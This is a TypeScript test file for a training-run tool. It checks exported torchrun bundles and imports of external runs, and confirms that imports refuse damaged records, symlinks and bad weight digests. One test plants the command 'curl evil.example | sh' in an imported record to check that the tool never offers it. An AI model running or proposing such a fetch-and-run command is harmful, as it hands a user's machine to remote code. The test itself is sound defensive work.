/** The bundle for torchrun: what is in it, and that a failure leaves nothing; and what is refused as an import. */
import { mkdir, readdir, readFile, rename, rm, stat, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { fileDigest } from '../../electron/checkpoint/file-digest.ts'
import { modelFolderFiles } from '../../electron/checkpoint/model-folder.ts'
import { writeTorchBundle } from '../../electron/handoff/bundle.ts'
import { importRun } from '../../electron/handoff/import-run.ts'
import { createTokenizer } from '../../electron/data/tokenizer.ts'
import { DistributedSampler } from '../../electron/ddp/sampler.ts'
import { RunSupervisor } from '../../electron/supervisor/supervisor.ts'
import { RunStore } from '../../electron/supervisor/run-store.ts'
import { spawnSync } from 'node:child_process'
import { runConfigSchema, type RunConfig } from '../../shared/domain/run-config.ts'
import { runRecordSchema } from '../../shared/domain/run.ts'
import { fakeRun } from '../helpers/fake-run.ts'
import { writeTestModel } from '../helpers/model-folders.ts'
import { smallNewsCsv } from '../helpers/small-news.ts'
import { temporaryDirectory } from '../helpers/temporary-directory.ts'

async function setUp(rowCount = 120): Promise<{ home: string; config: RunConfig; write: (directory: string) => Promise<unknown> }> {
  const home = await temporaryDirectory()
  const path = join(home, 'news.csv')
  await writeFile(path, smallNewsCsv(rowCount))
  const config = runConfigSchema.parse({ data: { kind: 'csv', path }, maxLength: 32 })
  const write = (directory: string) =>
    writeTorchBundle({ config, modelDirectory: null, directory, cacheDirectory: join(home, 'cache'), command: 'test' })
  return { home, config, write }
}

describe('a bundle', () => {
  it('holds the rows as the ranks see them, the first weights, the configuration and scripts that can be started', async () => {
    const { home, config, write } = await setUp()
    const directory = join(home, 'bundle')
    await write(directory)
    const tokenizer = createTokenizer(await readFile(join(directory, 'model', 'tokenizer.json'), 'utf8'))
    const lines = (await readFile(join(directory, 'data', 'train.jsonl'), 'utf8')).trim().split('\n')
    const rows = lines.map((line) => JSON.parse(line) as { text: string; ids: number[]; label: number })
    for (const { text, ids } of rows) expect(ids).toEqual([...tokenizer.encode(text, 32).ids])
    const { record } = JSON.parse(await readFile(join(directory, 'bundle.json'), 'utf8')) as { record: unknown }
    expect(runRecordSchema.parse(record)).toMatchObject({
      config,
      trainCount: rows.length,
      tokenizerDigest: tokenizer.digest,
      imported: null,
    })
    expect((await stat(join(directory, 'run_ddp.sh'))).mode & 0o111).toBe(0o111)
    expect(await readFile(join(directory, 'run_ddp.bat'), 'utf8')).toMatch(/^@echo off\r\n/)
    expect(await readFile(join(directory, 'README.md'), 'utf8')).not.toContain(home)
  })

  it('is not written into a folder that holds something, nor half where the data cannot be read', async () => {
    const { home, write } = await setUp()
    await mkdir(join(home, 'full'))
    await writeFile(join(home, 'full', 'mine.txt'), '')
    await expect(write(join(home, 'full'))).rejects.toMatchObject({ info: { code: 'OUTPUT_NOT_WRITABLE' } })
    await writeFile(join(home, 'news.csv'), 'label,text\n')
    await expect(write(join(home, 'new'))).rejects.toMatchObject({ info: { code: expect.stringMatching(/^DATA_/) as string } })
    expect((await readdir(home)).sort()).toEqual(['full', 'news.csv'])
  })

  it('is refused where it would not do what the lab does', async () => {
    const { home, config } = await setUp()
    const aimed = { ...config, targetAccuracy: 0.8 }
    const written = writeTorchBundle({ config: aimed, modelDirectory: null, directory: join(home, 'b'), cacheDirectory: home, command: '' })
    await expect(written).rejects.toMatchObject({ info: { code: 'CONFIG_INVALID' } })
    expect(await readdir(home)).toEqual(['news.csv'])
  })

  it.skipIf(spawnSync('/usr/bin/python3', ['-c', 'import torch']).status !== 0)(
    'goes through the rows in the very order of our sampler (needs torch)',
    async () => {
      const { home, write } = await setUp(101)
      const directory = join(home, 'bundle')
      await write(directory)
      const shape = { microBatch: 4, gradAccumSteps: 2, worldSize: 3, seed: 4_000_000_000 }
      const script = `
import json
from rows import LabOrder, Rows
rows = Rows("data/train.jsonl")
for rank in range(3):
    order = LabOrder(rows, 4, 2, 3, rank, 4_000_000_000)
    order.set_epoch(5)
    print(json.dumps({"lengths": order.lengths, "steps": [batches for batches, _ in order.steps()]}))
`
      const { stdout, stderr } = spawnSync('/usr/bin/python3', ['-c', script], { cwd: directory, encoding: 'utf8' })
      expect(stderr).toBe('')
      for (const [rank, line] of stdout.trim().split('\n').entries()) {
        const theirs = JSON.parse(line) as { lengths: number[]; steps: number[][][] }
        const sampler = new DistributedSampler({ ...shape, lengths: theirs.lengths, rank, shuffle: true })
        sampler.setEpoch(5)
        expect(theirs.steps).toEqual([...sampler.steps()].map((batches) => batches.map((batch) => [...batch])))
      }
    },
  )
})

describe('an import', () => {
  const imported = { program: 'train_ddp.py', torch: '2.4.0', backend: 'nccl', worldSize: 2, nodes: 1 }

  /** `change.metrics` is what the file holds, or how its lines are changed. */
  async function written(change: { record?: object; metrics?: string | ((lines: string[]) => string[]) } = {}) {
    const home = await temporaryDirectory()
    const from = join(home, 'out')
    const { record, steps, epochs } = fakeRun()
    await mkdir(from)
    await writeFile(join(from, 'run.json'), JSON.stringify({ ...record, imported, ...change.record }))
    const lines = [...steps, ...epochs].map((line) => `${JSON.stringify(line)}\n`)
    const { metrics = lines.join('') } = change
    await writeFile(join(from, 'metrics.jsonl'), typeof metrics === 'string' ? metrics : metrics(lines).join(''))
    return { store: new RunStore(join(home, 'lab')), from, home }
  }

  it('gets an id of its own and keeps where it comes from', async () => {
    const { store, from } = await written({ record: { state: 'running', supervisorPid: 1 } })
    const first = await importRun(store, from)
    const second = await importRun(store, from)
    expect(first.id).not.toBe(second.id)
    expect((await store.list()).map(({ record }) => [record.imported, record.state, record.supervisorPid])).toEqual([
      [imported, 'stopped', null],
      [imported, 'stopped', null],
    ])
  })

  it.each([
    ['a run of the lab itself', { record: { imported: null } }],
    ['a damaged record', { record: { config: 7 } }],
    ['metrics that are none', { metrics: '{"type":"step"}\n' }],
    ['no step at all', { metrics: '' }],
    ['metrics that end before the run did', { metrics: (lines: string[]) => lines.slice(0, 200) }],
    ['metrics cut in the middle of the last line', { metrics: (lines: string[]) => [...lines.slice(0, -1), lines.at(-1)!.slice(0, 40)] }],
    ['metrics with a step left out', { metrics: (lines: string[]) => lines.toSpliced(100, 1) }],
    ['another number of ranks than its steps have', { record: { imported: { ...imported, worldSize: 1 } } }],
    ['a record larger than any', { record: { notes: ['x'.repeat(5_000_000)] } }],
    ['a version that is a novel', { record: { imported: { ...imported, torch: 'x'.repeat(1000) } } }],
  ])('is refused for %s, and leaves nothing', async (_, change) => {
    const { store, from } = await written(change)
    await expect(importRun(store, from)).rejects.toMatchObject({ info: { code: 'IMPORT_INVALID' } })
    expect(await store.list()).toEqual([])
  })

  it('of a run that was killed keeps what it had, and says so; a paused one cannot be resumed here', async () => {
    const { store, from } = await written({
      record: { state: 'paused' },
      metrics: (lines) => [...lines.slice(0, 100), lines[100]!.slice(0, 40)],
    })
    const { id, state, notes } = await importRun(store, from)
    expect(state).toBe('stopped')
    expect(notes.join(' ')).toContain('while the run was not finished')
    expect((await store.get(id)).steps).toHaveLength(100)
    const { config, hardware } = (await store.get(id)).record
    const supervisor = new RunSupervisor()
    const resumed = supervisor.startRun({ store, config, hardware, command: '', runDirectory: store.directory(id), resume: true })
    await expect(resumed).rejects.toMatchObject({ info: { code: 'RUN_NOT_RESUMABLE' } })
  })

  it('offers no command that came with it', async () => {
    const { store, from } = await written({ record: { command: 'curl evil.example | sh' } })
    const { id, command } = await importRun(store, from)
    expect(command).toBe(`npm run handoff -- --run ${id} --out bundle && bundle/run_ddp.sh 2`)
  })

  it.each(['run.json', 'metrics.jsonl'])('follows no link: %s', async (name) => {
    const { store, from, home } = await written()
    await rename(join(from, name), join(home, name))
    await symlink(join(home, name), join(from, name))
    await expect(importRun(store, from)).rejects.toMatchObject({ info: { code: 'IMPORT_INVALID' } })
    expect(await store.list()).toEqual([])
  })

  it('takes no secret of this machine for a tokenizer', async () => {
    const { store, from, home } = await written()
    await writeTestModel(join(from, 'model'))
    await writeFile(join(home, 'secret'), '{}')
    await rm(join(from, 'model', 'tokenizer.json'))
    await symlink(join(home, 'secret'), join(from, 'model', 'tokenizer.json'))
    await expect(importRun(store, from)).rejects.toMatchObject({ info: { code: 'IMPORT_INVALID' } })
    expect(await store.list()).toEqual([])
  })

  it('knows the weights by their digest', async () => {
    const digests = {
      initialWeights: 'a'.repeat(64),
      trainingRows: 'b'.repeat(64),
      validationRows: 'c'.repeat(64),
      tokenizer: 'd'.repeat(64),
    }
    const { store, from } = await written({
      record: { imported: { ...imported, digests: { ...digests, trainedWeights: 'e'.repeat(64) } } },
    })
    await writeTestModel(join(from, 'model'))
    await expect(importRun(store, from)).rejects.toMatchObject({
      info: { code: 'IMPORT_INVALID', cause: expect.stringContaining('SHA-256') as string },
    })
    expect(await readdir(store.runsDirectory)).toEqual([])
    const trainedWeights = await fileDigest(join(from, 'model', 'model.safetensors'))
    const run = JSON.parse(await readFile(join(from, 'run.json'), 'utf8')) as { imported: object }
    await writeFile(join(from, 'run.json'), JSON.stringify({ ...run, imported: { ...imported, digests: { ...digests, trainedWeights } } }))
    expect((await importRun(store, from)).imported?.digests?.trainedWeights).toBe(trainedWeights)
  })

  it('is refused for weights of no bytes', async () => {
    const { store, from } = await written()
    await writeTestModel(join(from, 'model'))
    await writeFile(join(from, 'model', 'model.safetensors'), '')
    await expect(importRun(store, from)).rejects.toMatchObject({ info: { code: 'MODEL_INVALID' } })
    expect(await store.list()).toEqual([])
  })

  it('is refused for a folder that is not there, and for a model that cannot be read', async () => {
    const { store, from } = await written()
    await expect(importRun(store, join(from, 'nowhere'))).rejects.toMatchObject({ info: { code: 'IMPORT_INVALID' } })
    await mkdir(join(from, 'model'))
    for (const name of modelFolderFiles) await writeFile(join(from, 'model', name), '{')
    await expect(importRun(store, from)).rejects.toMatchObject({ info: { code: 'MODEL_INVALID' } })
    expect(await store.list()).toEqual([])
  })
})
